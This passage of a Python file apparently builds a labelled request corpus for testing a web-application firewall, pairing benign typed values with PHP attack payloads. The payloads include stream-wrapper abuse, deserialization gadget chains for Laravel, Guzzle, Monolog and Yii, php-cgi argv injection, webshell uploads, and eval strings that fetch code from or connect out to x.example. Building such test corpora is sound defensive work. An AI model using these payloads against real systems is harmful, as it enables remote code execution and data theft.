    ("attachment", "zip:///var/www/uploads/docs.zip#shell.php"),
    ("template", "zip://uploads/theme.zip%23index"),
    ("filename", "glob:///var/www/html/*.php"),
    ("path", "glob://../../*"),
    ("file", "compress.zlib:///etc/passwd"),
    ("lang", "compress.bzip2://../../../../etc/passwd"),
    ("file", "php://fd/0"),
    ("avatar_url", "php://filter/read=convert.base64-encode/resource=file:///etc/passwd"),
    ("logo", "rar://uploads/a.rar#shell.php"),
    # URL fields fetched by fopen()/file_get_contents() (import, webhook, avatar from URL)
    ("file", "expect://id"),
    ("url", "expect://curl x.example|sh"),
    ("import_url", "php://filter/resource=http://x.example/shell.txt"),
    ("feed_url", "ssh2.exec://user:pass@x.example:22/id"),
    ("webhook_url", "data://text/plain,<?php system($_GET['c']);?>"),
]


def _s(v: str) -> str:
    """A PHP serialized string (byte length)."""
    return f's:{len(v.encode("latin-1"))}:"{v}";'


def _o(cls: str, *props: tuple[str, str]) -> str:
    """A PHP serialized object; props are (name, serialized value); protected names start with NUL*NUL."""
    body = "".join(_s(k) + v for k, v in props)
    return f'O:{len(cls)}:"{cls}":{len(props)}:{{{body}}}'


def _a(*items: tuple[str, str]) -> str:
    """A PHP serialized array; items are (serialized key, serialized value)."""
    return f"a:{len(items)}:{{{''.join(k + v for k, v in items)}}}"


P = "\0*\0"   # protected property prefix
LARAVEL_RCE = _o("Illuminate\\Broadcasting\\PendingBroadcast",
                 (P + "events", _o("Faker\\Generator", (P + "formatters", _a((_s("dispatch"), _s("system")))))),
                 (P + "event", _s("id")))
GUZZLE_WRITE = _o("GuzzleHttp\\Cookie\\FileCookieJar",
                  ("\0GuzzleHttp\\Cookie\\CookieJar\0cookies",
                   _a(("i:0;", _o("GuzzleHttp\\Cookie\\SetCookie",
                                  ("\0GuzzleHttp\\Cookie\\SetCookie\0data",
                                   _a((_s("Expires"), "i:1;"), (_s("Discard"), "b:0;"),
                                      (_s("Value"), _s("<?php system($_GET['c']);?>")))))))),
                  ("\0GuzzleHttp\\Cookie\\CookieJar\0strictMode", "N;"),
                  ("\0GuzzleHttp\\Cookie\\FileCookieJar\0filename", _s("/var/www/html/c.php")),
                  ("\0GuzzleHttp\\Cookie\\FileCookieJar\0storeSessionCookies", "b:1;"))
MONOLOG_RCE = _o("Monolog\\Handler\\SyslogUdpHandler",
                 ("socket", _o("Monolog\\Handler\\BufferHandler",
                               (P + "handler", "r:2;"), (P + "bufferSize", "i:-1;"),
                               (P + "buffer", _a(("i:0;", _a((_s("message"), _s("id")), (_s("level"), "N;"))))),
                               (P + "level", "N;"), (P + "initialized", "b:1;"), (P + "bufferLimit", "i:-1;"),
                               (P + "processors", _a(("i:0;", _s("current")), ("i:1;", _s("system")))))))
SOAP_SSRF = _o("SoapClient", ("uri", _s("http://x.example/")), ("location", _s("http://127.0.0.1:6379/")),
               ("_user_agent", _s("x\r\nSET pwn 1\r\n")))
WP_ITERATOR = _o("Requests_Utility_FilteredIterator", ("\0Requests_Utility_FilteredIterator\0callback",
                                                       _s("system")))
THINKPHP = _o("think\\process\\pipes\\Windows",
              ("\0think\\process\\pipes\\Windows\0files", _a(("i:0;", _s("/var/www/html/public/index.php")))))
SWIFT_DELETE = _o("Swift_ByteStream_TemporaryFileByteStream",
                  ("\0Swift_ByteStream_FileByteStream\0_path", _s("/var/www/html/.htaccess")))
GUZZLE_INFO = _o("GuzzleHttp\\Psr7\\FnStream",
                 ("\0GuzzleHttp\\Psr7\\FnStream\0methods", _a((_s("close"), _s("phpinfo")))),
                 ("_fn_close", _s("phpinfo")))
YII_RCE = _o("yii\\db\\BatchQueryResult",
             ("\0yii\\db\\BatchQueryResult\0_dataReader",
              _o("Faker\\Generator", (P + "formatters", _a((_s("close"), _a(("i:0;", _o("yii\\rest\\CreateAction",
                                                                                      ("checkAccess", _s("system")),
                                                                                      ("id", _s("id")))),
                                                                             ("i:1;", _s("run")))))))))
PHP_OBJECT_INJECTION: list[Entry] = [
    # cookies of serialized preferences / cart / remember-me, read with unserialize() (PHP unserialize)
    ("prefs", _o("stdClass", ("is_admin", "b:1;"), ("role", _s("admin")))),
    ("cart", _a(("i:0;", _o("CartItem", ("sku", _s("A-100")), ("price", "d:-99.99;"))))),
    ("remember_me", _a((_s("user"), _s("admin")), (_s("token"), "b:1;"))),
    ("prefs", 'O:+8:"UserPref":1:{s:4:"file";s:11:"/etc/passwd";}'),
    ("cart", _a(("i:0;", _o("TempUpload", ("path", _s("/var/www/html/index.php")))))),
    ("session_data", _o("Logger", ("logFile", _s("/var/www/html/shell.php")),
                        ("initMsg", _s("<?php system($_GET['c']);?>")))),
    ("filters", 'C:11:"ArrayObject":37:{x:i:0;a:1:{s:1:"a";s:1:"b";};m:a:0:{}}'),
    ("state", 'C:16:"SplObjectStorage":37:{x:i:1;O:8:"stdClass":0:{},N;;m:a:0:{}}'),
    ("prefs", "a:2:{i:0;O:8:\"stdClass\":0:{}i:1;R:2;}"),
    ("view_state", "Tzo4OiJzdGRDbGFzcyI6MTp7czo1OiJhZG1pbiI7YjoxO30="),
    ("remember_me", "YToyOntzOjQ6InVzZXIiO3M6NToiYWRtaW4iO3M6NToidG9rZW4iO2I6MTt9"),
    # framework gadget chains (Laravel, Guzzle, Monolog, WordPress, ThinkPHP, SwiftMailer, Yii) in JSON fields
    ("settings", LARAVEL_RCE),
    ("cart", GUZZLE_WRITE),
    ("prefs", MONOLOG_RCE),
    ("state", SOAP_SSRF),
    ("widget", WP_ITERATOR),
    ("data", THINKPHP),
    ("queue_item", SWIFT_DELETE),
    ("payload", GUZZLE_INFO),
    ("filters", YII_RCE),
    # typed fields a back end unserializes by mistake (a serialized e-mail list, a sort spec, a UUID cache key)
    ("email", _a(("i:0;", _o("Mailer", ("sendmail", _s("/bin/sh -c id")))))),
    ("sort", _o("SortSpec", ("column", _s("id")), ("callback", _s("system")))),
    ("uuid", 'O:4:"User":2:{s:2:"id";i:1;s:7:"isAdmin";b:1;}'),
    ("tz", _o("DateTimeZone", ("timezone_type", "i:3;"), ("timezone", _s("../../etc/passwd")))),
    ("currency", _o("PDO", ("dsn", _s("sqlite:/var/www/html/x.php")))),
    ("version", _o("SplFileObject", ("fileName", _s("php://filter/convert.base64-encode/resource=config.php")))),
    ("page", "a:1:{s:4:\"page\";O:17:\"GuzzleHttp\\Client\":0:{}}"),
]
PHP_CONFIG: list[Entry] = [
    # the query string of a .php URL handed to php-cgi as argv (CVE-2012-1823; CVE-2024-4577's soft hyphen %AD)
    ("@argv", "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    ("@argv", "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
    ("@argv", "-d+auto_prepend_file%3d/etc/passwd+-n"),
    ("@argv", "-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+allow_url_include%3dOn"),
    ("@argv", "-s"),
    ("@argv", "-d+auto_prepend_file%3dhttp://x.example/shell.txt+-d+allow_url_include%3d1"),
    ("@argv", "%ADd+cgi.force_redirect%3d0+%ADd+auto_prepend_file%3d/proc/self/environ"),
    # settings (time zone, locale, memory limit) written line by line into .user.ini / .htaccess: a new line
    ("timezone", "Europe/London\nauto_prepend_file=/var/www/html/uploads/logo.png"),
    ("locale", "en_GB\nallow_url_include=On\nauto_prepend_file=http://x.example/s.txt"),
    ("memory_limit", "256M\nauto_append_file=\"/var/www/html/uploads/avatar.jpg\""),
    ("upload_max", "20M\r\nphp_value auto_prepend_file /tmp/sess_abc123"),
    ("tz", "UTC\ndisable_functions=\nopen_basedir=/"),
    ("lang", "en\nerror_log=/var/www/html/e.php\nlog_errors=On"),
    ("timezone", "UTC\r\nsession.save_path=/var/www/html/\r\nsession.serialize_handler=php"),
    ("custom_htaccess", "php_value auto_prepend_file \"php://input\""),
    ("custom_htaccess", "php_flag engine on\nAddType application/x-httpd-php .jpg"),
    ("custom_htaccess", "php_admin_value allow_url_include 1"),
    ("mail_from", "noreply@example.com\nsendmail_path=\"/tmp/x.sh\""),
    ("version", "8.2\nextension=/var/www/html/uploads/x.so"),
    ("include_path", ".:/usr/share/php\ninclude_path=/var/www/html/uploads"),
    # values evaluated by eval() that switch the settings first
    ("price", "1;ini_set('allow_url_include','1');include('http://x.example/s.txt');"),
    ("qty", "1;ini_set('open_basedir','/');echo file_get_contents('/etc/shadow');"),
    ("sort", "name';ini_set('disable_functions','');//"),
    ("formula", "ini_set('auto_prepend_file','php://input')"),
    # php.ini / user.ini lines typed into an admin "PHP settings" textarea of a hosting panel
    ("php_ini", "allow_url_fopen = On\nallow_url_include = On"),
    ("php_ini", "auto_prepend_file = \"data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==\""),
    ("php_ini", "user_ini.filename = avatar.png"),
]
PHP_SUPERGLOBALS: list[Entry] = [
    # numeric and typed fields evaluated by eval(): reach the request, server, environment and session arrays
    ("price", "1;echo $_SERVER['DOCUMENT_ROOT'];"),
    ("qty", "1;print_r($_ENV);"),
    ("amount", "1;var_dump($GLOBALS);"),
    ("discount", "1;eval($_POST['x']);"),
    ("formula", "${eval($_REQUEST['c'])}"),
    ("sort", "name';echo getenv('DB_PASSWORD').$_ENV['APP_KEY'];//"),
    ("lang", "en';$_SESSION['is_admin']=1;//"),
    ("currency", "EUR';print_r($_COOKIE);//"),
    ("date", "2024-01-01';eval($_SERVER['HTTP_X_CMD']);//"),
    ("email", "a@b.c';system($_COOKIE['c']);//"),
    ("postcode", "1;move_uploaded_file($_FILES['f']['tmp_name'],'x.php');"),
    ("version", "1;eval(file_get_contents('php://input'));echo $HTTP_RAW_POST_DATA;"),
    ("timezone", "UTC'.print_r($_SERVER,true).'"),
    # fields rendered by a PHP template with complex (curly) syntax inside double quotes
    ("name", "{${phpinfo()}}"),
    ("site_title", "{${system($_GET['c'])}}"),
    ("color", "#fff{$_SERVER['SERVER_ADDR']}"),
    ("host", "example.com${${print_r($GLOBALS)}}"),
    ("page", "{$GLOBALS['db_pass']}"),
    # parameter names reaching extract() / parse_str() / register_globals emulation (mass assignment)
    ("@param", "_SESSION[is_admin]=1"),
    ("@param", "_SESSION[user_id]=1"),
    ("@param", "GLOBALS[config][debug]=1"),
    ("@param", "_SERVER[REMOTE_ADDR]=127.0.0.1"),
    ("@param", "_COOKIE[role]=admin"),
    ("@param", "_FILES[avatar][tmp_name]=/etc/passwd"),
    ("@param", "_ENV[APP_DEBUG]=true"),
    ("@param", "_REQUEST[cmd]=id"),
    ("@param", "_POST[__auth]=1"),
]
PHP_UPLOAD: list[Entry] = [
    # upload names checked by a loose extension test, stored under the web root (Apache/nginx + PHP-FPM)
    ("upload", "avatar.php"),
    ("upload", "shell.phtml"),
    ("upload", "invoice.pdf.php"),
    ("upload", "photo.php5"),
    ("upload", "logo.phar"),
    ("upload", "image.jpg.phtml"),
    ("upload", "cv.php%00.pdf"),
    ("upload", "cv.php\0.pdf"),
    ("upload", "report.php."),
    ("upload", "avatar.pHp"),
    ("upload", ".htaccess"),
    ("upload", ".user.ini"),
    ("upload", "backup.php7"),
    ("upload", "thumb.pht"),
    ("upload", "scan.php;.jpg"),
    ("upload", "upload.php::$DATA"),
    ("upload", "cmd.php4"),
    ("upload", "icon.php3"),
    ("upload", "x.phps"),
    ("upload", "../../public/x.php"),
    ("upload", "profile.png.PHTML"),
    ("upload", "doc.pgif"),
    ("upload", "pic.php .jpg"),
    ("upload", "x.inc.php"),
    ("upload", "receipt.shtml.php"),
    ("upload", "banner.gif.php5"),
    ("upload", "data.php%20"),
]
PHP_HIGH_RISK: list[Entry] = [
    # callback / handler / format fields passed to call_user_func(), array_map() or usort() (PHP interpreter)
    ("callback", "system"),
    ("fn", "passthru"),
    ("handler", "shell_exec"),
    ("sort_callback", "assert"),
    ("format", "phpinfo"),
    ("hook", "proc_open"),
    ("transform", "base64_decode"),
    ("validator", "pcntl_exec"),
    ("action", "show_source"),
    ("filter", "create_function"),
    # typed values evaluated by eval(): the functions a tester calls first to prove execution
    ("price", "1;phpinfo();"),
    ("qty", "1;highlight_file('/etc/passwd');"),
    ("amount", "1;readfile('../config/database.php');"),
    ("limit", "10;file_put_contents('x.php',base64_decode('PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs='));"),
    ("sort", "name';eval(gzinflate(base64_decode('K64sLknN1VDKTFHStAYA')));//"),
    ("lang", "en';eval(str_rot13('flfgrz(\"vq\");'));//"),
    ("currency", "EUR';putenv('LD_PRELOAD=/tmp/x.so');mail('a@b.c','','');//"),
    ("date", "2024-01-01';fsockopen('x.example',4444);//"),
    ("email", "a@b.c';print_r(posix_getpwuid(0));//"),
    ("host", "example.com';echo curl_exec(curl_init('http://169.254.169.254/latest/meta-data/'));//"),
    ("postcode", "1;symlink('/etc/passwd','/var/www/html/p.txt');"),
    ("version", "1;echo ini_get('disable_functions');print_r(get_defined_functions());"),
    ("uuid", "1;dl('/tmp/x.so');"),
    ("timezone", "UTC';var_dump(scandir('/'));//"),
    ("color", "#fff';unlink('/var/www/html/.htaccess');//"),
    ("page", "1;echo shell_exec('id');"),
    ("filename", "x';copy('http://x.example/s.txt','s.php');//"),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", XSS_LIBINJECTION),
    ("xss", "script-tag", XSS_SCRIPT_TAG),
    ("xss", "event-handler", XSS_EVENT_HANDLER),
    ("xss", "attribute-vector", XSS_ATTRIBUTE),
    ("xss", "javascript-uri", XSS_JS_URI),
    ("xss", "html-injection", XSS_HTML_INJECTION),
    ("xss", "svg-mathml", XSS_SVG_MATHML),
    ("xss", "css-expression", XSS_CSS),
    ("xss", "template-literal-dom-sink", XSS_DOM_SINK),
    ("xss", "ie-filter-style", XSS_IE_FILTER),
    ("xss", "encoded-entity", XSS_ENCODED),
    ("xss", "angular-vue-template", XSS_CLIENT_TEMPLATE),
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-function-call", PHP_FUNCTION_CALL),
    ("php", "php-variable-functions", PHP_VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", PHP_WRAPPERS),
    ("php", "php-object-injection", PHP_OBJECT_INJECTION),
    ("php", "php-config-directives", PHP_CONFIG),
    ("php", "php-superglobals", PHP_SUPERGLOBALS),
    ("php", "php-file-upload", PHP_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_HIGH_RISK),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements: each field goes where such a field really travels
REAL_BASE = ["query", "form", "json", "xml", "multipart-field"]
RS_BASE = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-multipart-field"]
ID_FIELDS = {"id", "user_id", "uuid", "order_id", "team_id"}
COOKIE_FIELDS = {"lang", "locale", "currency", "timezone", "tz", "sort", "color", "theme_color", "cart", "prefs",
                 "remember_me", "session_data", "view_state", "state", "page", "limit"}


class _Set(BlindSet):
    prefix = NAME
    upload = "GIF89a"
    file_type = "image/gif"
    one_line = ()
    short = ("path", "rs-path")

    def _p_json_key(self, p: Put) -> Record:
        return _json("/api/users", {"email": "a@example.org", "settings": {p.v: "1"}})

    def _p_param_raw(self, p: Put) -> Record:
        return _get("/api/users?page=1&" + self._raw(p))

    def _p_argv(self, p: Put) -> Record:
        return _get("/api/users?" + p.v)

    def _p_rs_json_key(self, p: Put) -> Record:
        return request("POST", p.path, json.dumps({p.v: "1"}), "application/json")

    def _p_rs_multipart_field(self, p: Put) -> Record:
        return request("POST", p.path, self.multipart([(p.name, p.v, None)]), self.multipart_type)

    def _p_rs_param_raw(self, p: Put) -> Record:
        return request("GET", p.path + "?" + self._raw(p))

    def _p_rs_argv(self, p: Put) -> Record:
        return request("GET", p.path + "?" + p.v)


SET = _Set()


def _is_header(field: str) -> bool:
    return field[:1].isupper()


def _places(field: str) -> tuple[list[str], list[str]]:
    """The real and the rs- placements a field of this type can take."""
    if _is_header(field):
        return ["header:" + field], ["rs-header:" + field]
    if field == "upload":
        return ["multipart-filename"], ["rs-multipart-filename"]
    if field == "@key":
        return ["json-key", "param-name"], ["rs-json-key", "rs-param-name"]
    if field == "@param":
        return ["param-raw"], ["rs-param-raw"]
    if field == "@argv":
        return ["argv"], ["rs-argv"]
    real, rs = list(REAL_BASE), list(RS_BASE)
    if field in ID_FIELDS:
        real, rs = ["path", *real], ["rs-path", *rs]
    if field in COOKIE_FIELDS:
        real, rs = ["cookie", *real], ["rs-cookie", *rs]
    return real, rs


def _choose(options: list[str], k: int, v: str, fallback: str) -> str:
    """The k-th placement that fits the value (the field's body placement when none does)."""
    for j in range(len(options)):
        place = options[(k + j) % len(options)]
        if SET.fits(place, v):
            return place
    return fallback


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s, (category, sub, entries) in enumerate(FAMILIES):
        for i, (field, payload) in enumerate(entries):
            real_opts, rs_opts = _places(field)
            name = "user_agent" if _is_header(field) else field
            real_place = _choose(real_opts, i + s, payload, "json")
            rs_place = _choose(rs_opts, i + 2 * s, payload, "rs-json")
            rs_path = RS_PATHS[(i + s) % len(RS_PATHS)]
            if field == "@argv":
                rs_path = ["/index.php", "/cgi-bin/php-cgi", "/php-cgi/php-cgi.exe"][i % 3]
            for place, rec in ((real_place, SET.real(real_place, name, payload)),
                               (rs_place, SET.rs(rs_place, rs_path, name, payload))):
                n += 1
                yield SET.record(rec, n, category, sub, place, payload)


# ----------------------------------------------------------------------------------------------------------------
# Benign: realistic values of the same typed fields, sent to the same places, and the same words typed innocently
TYPED_VALUES: list[Entry] = [
    # e-mail addresses with plus tags, dots, apostrophes, hyphens, sub-domains, IDNs
    ("email", "anna+newsletter@example.com"), ("email", "john.o'brien@example.ie"),
    ("email", "d'angelo.marco@example.it"), ("email", "first.last@mail.sub.example.co.uk"),
    ("email", "j_smith-99@example.org"), ("reply_to", "Support Team <support@example.com>"),
    ("contact_email", "o'neil+billing@example.net"), ("email", "zoë.müller@beispiel.de"),
    ("email", "info@xn--bcher-kva.example"), ("reply_to", "\"Smith, John\" <john.smith@example.com>"),
    # phone numbers
    ("phone", "+1 (555) 010-0199"), ("phone", "+44 20 7946 0958"), ("mobile", "07700 900123"),
    ("phone", "0151 496 0123 ext. 42"), ("phone", "+49 30 1234567-89"), ("mobile", "+33 6 12 34 56 78"),
    # dates and times in many formats
    ("date", "2024-05-01"), ("date", "01/05/2024"), ("date", "May 1, 2024"), ("date", "1. Mai 2024"),
    ("since", "2024-05-01T09:30:00+02:00"), ("until", "2024-05-31T23:59:59Z"), ("date", "2024-05-01 09:30:00"),
    ("since", "Tue, 01 May 2024 09:30:00 GMT"), ("start_time", "09:30"), ("start_time", "9:30 PM"),
    ("date", "2024-W18"), ("since", "1714548600"), ("date", "31.12.2024"), ("until", "2024-06-30T18:00"),
    # prices, amounts and quantities with currency signs, separators and units
    ("price", "€19,99"), ("price", "$1,299.00"), ("price", "£5"), ("amount", "19.99 EUR"), ("price", "CHF 12.50"),
    ("price", "¥3000"), ("discount", "-5.00"), ("discount", "10%"), ("qty", "2"), ("qty", "3 x 250g"),
    ("qty", "1/2"), ("amount", "1 234,56"), ("weight", "2.5 kg"), ("total", "(12.00)"),
    # ids, UUIDs and Slack ids
    ("id", "42"), ("user_id", "1007"), ("uuid", "0f8fad5b-d9cb-469f-a165-70867728950e"),
    ("order_id", "ORD-2024-00017"), ("team_id", "T0123ABCD"), ("uuid", "3FA85F64-5717-4562-B3FC-2C963F66AFA6"),
    # sort keys, columns, pages and limits
    ("sort", "-created_at"), ("sort", "name"), ("order_by", "email,-id"), ("sort", "last_login desc"),
    ("sort", "price:asc"), ("order_by", "updated_at DESC, name ASC"), ("page", "2"), ("limit", "100"),
    ("page", "1"), ("limit", "25"),
    # languages, locales, currencies, time zones
    ("lang", "en-GB"), ("locale", "pt_BR"), ("lang", "zh-Hant-TW"), ("currency", "EUR"), ("currency", "USD"),
    ("currency", "gbp"), ("timezone", "America/New_York"), ("tz", "Europe/Berlin"), ("timezone", "UTC+05:30"),
    # file names with spaces, brackets, accents, ampersands, apostrophes
    ("filename", "Q3 report (final).pdf"), ("filename", "café menu.docx"), ("filename", "[draft] plan v2.txt"),
    ("filename", "photo_2024-05-01 12.33.45.jpg"), ("filename", "Ann's CV.pdf"), ("filename", "data & notes.csv"),
    ("attachment", "résumé – María José.pdf"),
    # postcodes
    ("postcode", "SW1A 1AA"), ("zip", "10115"), ("postcode", "75001"), ("zip", "90210-1234"), ("postcode", "K1A 0B1"),
    ("postcode", "1010 AB"), ("postcode", "100-0001"),
    # colours
    ("color", "#ff8800"), ("color", "rgb(255, 136, 0)"), ("theme_color", "hsl(210 40% 50%)"),
    ("color", "rebeccapurple"), ("color", "#0f0a"), ("bg_color", "transparent"), ("accent", "var(--brand-500)"),
    # versions
    ("version", "1.2.3"), ("version", "2.0.0-beta.1"), ("version", "v3.1.4+build.5"), ("api_version", "2024-05-01"),
    ("version", ">=1.2,<2"),
    # hostnames and URLs
    ("host", "api.example.com"), ("host", "10.0.0.5:8080"), ("website", "https://example.com/path?a=1&b=2"),
    ("avatar_url", "https://cdn.example.com/u/42/avatar.png?v=3"), ("return_to", "/admin/users?page=2&sort=-id"),
    ("redirect_uri", "https://app.example.com/oauth/callback"), ("callback_url", "https://hooks.example.com/in/T01"),
    ("homepage", "http://www.o'reilly.example/books"), ("import_url", "https://example.com/export/users.csv"),
    # callbacks, formats, templates and settings that a real form sends
    ("callback", "handleResponse"), ("format", "csv"), ("template", "welcome_email"), ("theme", "dark"),
    ("memory_limit", "256M"), ("font", "Helvetica Neue, Arial, sans-serif"), ("pattern", "^[A-Z]{2}\\d{6}$"),
    ("formula", "=SUM(B2:B10)*1.2"), ("site_name", "O'Brien & Sons Hardware"),
    # JSON keys and parameter names
    ("@key", "billing.address.line1"), ("@key", "tags[]"), ("@key", "first_name"),
    # headers
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                   "Gecko) Version/17.4 Mobile/15E148 Safari/604.1"),
    ("Referer", "https://app.example.com/admin/users?q=o%27brien&page=1"),
    ("X-Forwarded-For", "203.0.113.7, 10.0.0.2"),
]
CHAT = [
    "the date picker sends 01/05/2024 for Brits and Americans read it as January, can we switch to ISO?",
    "prices with € and a comma as decimal separator broke the CSV import again",
    "sort=-created_at is the default on the users page now",
    "the <script> tag in the footer template loads the analytics snippet, don't remove it",
    "we replaced onclick handlers with addEventListener in the admin JS",
    "the iframe for the status page needs sandbox=\"allow-scripts\"",
    "CSP now blocks inline event handlers like onload and onerror, check the console",
    "javascript: links are stripped by the markdown renderer, as they should be",
    "svg avatars are converted to png on upload, no inline svg anymore",
    "the old IE expression() CSS hacks are finally gone from the stylesheet",
    "we escape &lt; and &gt; in the email templates, the preview looked odd",
    "Angular's {{ }} interpolation clashes with Jinja's, we use [[ ]] in those templates",
    "Vue's v-html is only used for the sanitized help articles",
    "alert() popups in the admin were replaced by toasts",
    "document.cookie is empty because the session cookie is HttpOnly, that's expected",
    "the base tag in the docs site broke relative links",
    "the meta refresh on the maintenance page points at the status page",
    "PHP 8.3 migration: the legacy billing app still uses create_function in two places",
    "php-fpm pm.max_children bumped to 40 on the legacy host",
    "composer install --no-dev on the production box",
    "the WordPress plugin update needs allow_url_fopen, ops said no",
    "upload_max_filesize and post_max_size are 20M in php.ini",
    "we moved the timezone setting out of .user.ini into the app config",
    "unserialize() on cookie data is banned in code review, use json_decode",
    "phar files in the release bucket are the CLI tools, signed",
    "the data: URI for the logo is 4 KB, fine to inline",
    "system() calls in the deploy script were replaced by Symfony Process",
    "exec summary for the board is in the drive",
    "the eval period for the new vendor ends Friday",
    "include the invoice number in the e-mail subject please",
    "Mr O'Brien asked why his e-mail with a plus sign was rejected, fixed in 2.4.1",
    "Ms D'Angelo's postcode SW1A 1AA validated fine after the fix",
    "the phone field now accepts +44 (0)20 7946 0958",
    "the colour picker returns rgb(255, 136, 0) in Firefox and #ff8800 in Chrome",
    "file names like [draft] plan (v2).txt broke the old uploader",
]
SEARCHES = [
    "o'brien", "d'angelo", "o'neil", "anna+newsletter@example.com", "john.o'brien@example.ie", "+44 20 7946",
    "2024-05-01", "01/05/2024", "€19,99", "$1,299.00", "SW1A 1AA", "90210", "ORD-2024-00017",
    "0f8fad5b-d9cb-469f-a165-70867728950e", "T0123ABCD", "-created_at", "en-GB", "pt_BR", "EUR", "Europe/Berlin",
    "Q3 report (final).pdf", "café", "#ff8800", "rebeccapurple", "1.2.3", "api.example.com", "script", "scripts",
    "onload", "iframe", "javascript", "svg", "math", "expression", "template", "angular", "vue", "alert", "cookie",
    "document", "embed", "object", "base", "meta", "form", "link", "style", "php", "phar", "data", "zip", "glob",
    "expect", "system", "exec", "eval", "assert", "include", "serialize", "session", "upload", "phpinfo",
    "ini", "timezone", "Java Script course", "Ann Script", "Marc Object", "Dr. Frame",
]
PROSE = [
    "Customer O'Brien reports that his e-mail john.o'brien@example.ie is refused by the signup form.",
    "Invoice ORD-2024-00017 was charged €19,99 twice; refund issued on 01/05/2024.",
    "The export sorted by -created_at shows the newest users first, as requested.",
    "Please use ISO dates (2024-05-01) in the ticket, the US format confused the team.",
    "User asked whether the colour #ff8800 can be used for the team badge.",
    "Postcode 1010 AB (Amsterdam) was rejected because of the space; fixed in 2.4.1.",
    "The file 'Q3 report (final).pdf' could not be previewed; it is 40 MB.",
    "Version 2.0.0-beta.1 of the mobile app sends the locale as pt_BR instead of pt-BR.",
    "Phone number +1 (555) 010-0199 belongs to the Austin office.",
    "The script that syncs Slack users runs every hour at :15.",
    "Our PHP billing system will be retired in Q4; the exports move to the new API.",
    "The onboarding form embeds a YouTube iframe; marketing wants autoplay off.",
    "Price changed from $1,299.00 to $1,199.00 for the annual plan.",
    "Team T0123ABCD asked for the currency to be GBP on invoices.",
]
URLS = [
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/iframe#sandbox",
    "https://developer.mozilla.org/en-US/docs/Web/SVG/Element/animate",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://angular.io/guide/security",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/ini.core.php#ini.auto-prepend-file",
    "https://www.php.net/manual/en/features.file-upload.php",
    "https://owasp.org/www-community/attacks/xss/",
    "https://en.wikipedia.org/wiki/ISO_8601",
    "https://en.wikipedia.org/wiki/Postcodes_in_the_United_Kingdom",
    "https://example.com/shop/item?id=42&currency=EUR&qty=2",
]
PROFILES = [
    ("Seán O'Brien", "sean.obrien@example.ie", "+353 1 555 0101"),
    ("Marco D'Angelo", "marco.d'angelo@example.it", "+39 06 555 0102"),
    ("Kate O'Neil-Smith", "kate+work@example.com", "+1 (555) 010-0103"),
    ("Zoë Müller", "zoe.mueller@beispiel.de", "+49 30 5550104"),
    ("José Ñúñez", "jose.nunez@example.es", "+34 91 555 0105"),
    ("Ann-Marie Script", "ann.script@example.org", "07700 900106"),
    ("Dr. Jean-Luc Object", "jl.object@example.fr", "+33 1 55 50 01 07"),
    ("Ada Frame", "ada.frame@example.co.uk", "+44 20 7946 0108"),
    ("Priya Eval", "priya.eval@example.in", "+91 98765 43210"),
    ("Chris System", "c.system@example.com", "+1 555 010 0110"),
    ("Liam Include", "liam.include@example.ie", "+353 87 555 0111"),
    ("Siobhán Ní Bhriain", "siobhan@example.ie", "+353 91 555 0112"),
    ("Mei-Ling Zhang", "meiling.zhang@example.cn", "+86 10 5555 0113"),
    ("Ravi Template", "ravi.t@example.com", "+1 (555) 010-0114"),
    ("Grace Base", "grace.base@example.com", "+1 555-010-0115"),
]
UPLOAD_NAMES = [
    "Q3 report (final).pdf", "café menu.docx", "[draft] plan v2.txt", "photo_2024-05-01 12.33.45.jpg",
    "Ann's CV.pdf", "data & notes.csv", "résumé – María José.pdf", "logo.svg", "invoice #42.pdf", "100% done.png",
    "team photo (1).jpeg", "php-migration-plan.pdf", "scripts-overview.pptx", "archive.tar.gz", "notes.md",
    "Budget 2024–2025.xlsx", "screenshot 2024-05-01 at 10.22.31.png", "contract_v3 (signed).pdf",
    "iframe-embed-guide.docx", "O'Brien family.jpg", "schedule.ics", "export (2).csv",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
    ("User-Agent", "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0"),
    ("User-Agent", "PHP/8.2.18"), ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "WordPress/6.5.2; https://blog.example.com"),
    ("User-Agent", "curl/8.5.0"), ("User-Agent", "python-requests/2.31.0"),
    ("Referer", "https://app.example.com/shop/cart?currency=EUR&qty=2"),
    ("Referer", "https://www.google.com/search?q=o%27brien+example"),
    ("Referer", "https://docs.example.com/api/users#sorting"),
    ("Accept-Language", "de-CH,de;q=0.9,fr-CH;q=0.8,en;q=0.7"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en-US;q=0.8"),
    ("Cookie", "session=abc123; lang=en-GB; currency=EUR; tz=Europe%2FLondon"),
    ("Cookie", "session=abc123; sort=-created_at; theme_color=%23ff8800"),
    ("X-Forwarded-For", "198.51.100.23"),
